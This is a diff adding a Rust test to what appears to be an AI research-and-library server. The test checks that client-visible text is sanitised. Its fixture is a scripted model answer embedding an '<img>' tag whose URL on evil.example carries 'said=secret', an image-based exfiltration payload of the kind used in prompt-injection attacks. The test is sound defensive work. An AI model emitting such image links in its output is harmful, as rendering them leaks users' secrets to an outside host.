@@ -432,3 +432,22 @@ async fn documents_alone_never_reach_the_web() {
     assert!(result.await.unwrap().to_string().contains("vault"));
     crate::egress::nothing_left(&model, &site);
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_client_may_show_holds_nothing_live() {
+    let answer = "The wall is old <img src=https://evil.example/y.png?said=secret> and long.";
+    let model = LlmServer::start(KEY, Duration::ZERO, vec![Scripted::Text(answer)]).await;
+    let search = SearchServer::start(200, &[]).await;
+    let site = Site::start(&[]).await;
+    let place = Place::new(&web_settings(&model.base_url, &search.base_url, &site.host, ""));
+    let shown = tokio::task::spawn_blocking(move || {
+        let mut client = Client::start(&place);
+        let answered = client.call("research", json!({"query": "How old is the wall?"}));
+        let found = client.call("library", json!({"text": "wall"}));
+        assert_eq!(found["structuredContent"]["results"].as_array().map(Vec::len), Some(1), "{found}");
+        [answered["content"][0]["text"].clone(), found["content"][0]["text"].clone()]
+    });
+    for text in shown.await.unwrap() {
+        assert!(text.as_str().is_some_and(|text| text.contains("wall") && !text.contains("<img")), "{text}");
+    }
+}
